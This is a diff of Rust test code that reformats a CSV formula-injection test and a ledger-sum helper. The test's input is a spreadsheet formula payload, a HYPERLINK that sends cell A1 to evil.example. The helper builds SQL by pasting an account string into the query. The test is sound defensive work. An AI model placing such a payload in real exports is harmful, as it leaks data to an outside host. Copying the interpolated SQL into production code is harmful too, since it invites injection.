@@ -27,7 +27,7 @@ fn no_text_can_become_a_formula() {
     for start in ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"] {
         let text = format!("{start}HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
         let line = cells(&[&text]);
-        assert!(line.starts_with("\"'") , "{line:?}");
+        assert!(line.starts_with("\"'"), "{line:?}");
         let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
         let read = reader.records().next().unwrap().unwrap();
         assert_eq!(&read[0], format!("'{text}"), "nothing else of it is changed");
@@ -61,7 +61,9 @@ fn a_day_begins_at_midnight_where_the_organisation_is_or_as_soon_as_the_clocks_a
 async fn sums_of(test: &TestApp, account: &str) -> BTreeMap<String, i64> {
     let db = behind_its_back(test).await;
     let backend = if test.database.is_postgres() { DbBackend::Postgres } else { DbBackend::Sqlite };
-    let sql = format!("select currency, cast(sum(amount_minor) as bigint) as total from ledger_entry where account = '{account}' group by currency");
+    let sql = format!(
+        "select currency, cast(sum(amount_minor) as bigint) as total from ledger_entry where account = '{account}' group by currency"
+    );
     let rows = db.query_all_raw(Statement::from_string(backend, sql)).await.unwrap();
     rows.iter().map(|row| (row.try_get("", "currency").unwrap(), row.try_get("", "total").unwrap())).collect()
 }
